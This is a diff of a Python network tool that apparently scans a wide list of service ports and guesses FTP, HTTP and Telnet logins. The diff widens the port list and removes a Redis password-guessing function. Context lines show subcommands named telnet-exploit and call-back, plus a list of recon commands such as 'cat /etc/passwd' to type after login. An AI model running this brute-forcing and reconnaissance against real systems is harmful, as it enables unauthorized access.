@@ -12,7 +12,9 @@ import subprocess
 import threading
 import time
 
-PORTS = (21, 22, 23, 25, 53, 80, 443, 873, 5432, 6379)
+# What may have a greeting. Who asks does not know yet what is there: that tells him from monitoring.
+PORTS = (21, 22, 23, 25, 53, 80, 110, 111, 139, 143, 389, 443, 445, 465, 587, 631, 873, 993, 995, 1433, 1521, 2121, 2222,
+         3306, 3389, 5060, 5432, 5900, 5984, 6379, 8000, 8080, 8443, 9200, 11211, 27017)
 TYPED = (b"id\n", b"uname -a\n", b"w\n", b"cat /etc/passwd\n", b"ls -l /etc\n", b"pwd\n",
          b"cat /proc/meminfo\n", b"ls /usr/bin | head -60\n", b"echo done\n")
 
@@ -106,16 +108,6 @@ def guess_ftp(options):
     """--tries guesses a connection; the server takes its time to say no, so several at once."""
     for beat in beats(options):
         threading.Thread(target=one_ftp, args=(options, beat), daemon=True).start()
-
-
-def guess_redis(options):
-    for beat in beats(options):
-        try:
-            with dial(options, 6379) as sock:
-                sock.sendall(f"AUTH {word(beat)}\r\n".encode())
-                sock.recv(200)
-        except OSError:
-            pass
 
 
 def plain(data):
@@ -251,7 +243,7 @@ def telnet_exploit(options):
 def main():
     parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
     commands = parser.add_subparsers(required=True)
-    for call in (connect, hold, banners, guess_http, guess_ftp, guess_redis, guess_telnet, telnet_exploit,
+    for call in (connect, hold, banners, guess_http, guess_ftp, guess_telnet, telnet_exploit,
                  operator, call_back):
         command = commands.add_parser(call.__name__.replace("_", "-"))
         command.set_defaults(call=call)
